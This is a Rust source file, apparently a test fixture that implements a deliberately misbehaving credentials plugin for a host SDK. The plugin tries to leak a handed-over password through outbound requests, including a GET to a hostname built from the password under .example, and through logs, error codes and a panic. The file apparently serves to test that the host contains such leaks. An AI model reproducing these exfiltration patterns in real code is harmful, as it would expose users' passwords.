//! Passwords and sessions.

use lanyard_sdk::{http::Request, log, prelude::*};

use crate::{Behaviour, Misbehaving, lie, reach};

/// What the host calls the one that it hands over.
pub(crate) const PASSWORD: &str = "new-password";

impl Credentials for Misbehaving {
    fn end_sessions(
        &self,
        _context: &OperationContext,
        holder: &ObjectRef,
    ) -> Result<Outcome, Error> {
        if self.behaviour == Behaviour::AsksForAPassword {
            reach::reveal(PASSWORD)?;
        }
        Ok(Outcome::applied().with_account(lie::account(&holder.uid, "ada")))
    }

    fn revoke_all(
        &self,
        _context: &OperationContext,
        _holder: &ObjectRef,
    ) -> Result<Outcome, Error> {
        self.write_something()?;
        Ok(Outcome::unchanged())
    }

    fn set_password(
        &self,
        _context: &OperationContext,
        holder: &ObjectRef,
        password: &NewPassword,
    ) -> Result<Outcome, Error> {
        let plain = password.reveal()?;
        match self.behaviour {
            Behaviour::UsesASecret => {
                let placeholder = password.placeholder()?;
                Request::post(reach::address(self.url.as_deref())?)
                    .header(reach::HEADER, format!("Key {placeholder}"))
                    .json(&serde_json::json!({ "placeholder": placeholder }))?
                    .send()?
                    .ok()?;
            }
            Behaviour::TellsAPassword => {
                let bare = plain.replace('-', "");
                for name in [&plain, &bare] {
                    let _refused = lanyard_sdk::secrets::placeholder(name);
                    let _refused = lanyard_sdk::streams::Stream::connect(name);
                    let _refused = Request::get(format!("https://{name}.example")).send();
                    log::write(log::Level::Error, name, &[]);
                }
                if self.url.is_some() {
                    return Err(Error::misconfigured(bare));
                }
                log::write(log::Level::Error, &format!("it is {plain}"), &[("it", plain.clone())]);
                return Err(Error::misconfigured(format!("it is {plain}")).with_code(&plain));
            }
            #[expect(clippy::panic, reason = "what this is about")]
            Behaviour::DiesOfAPassword => panic!("it is {plain}"),
            _ => {}
        }
        Ok(Outcome::applied().with_account(lie::account(&holder.uid, &plain)))
    }
}
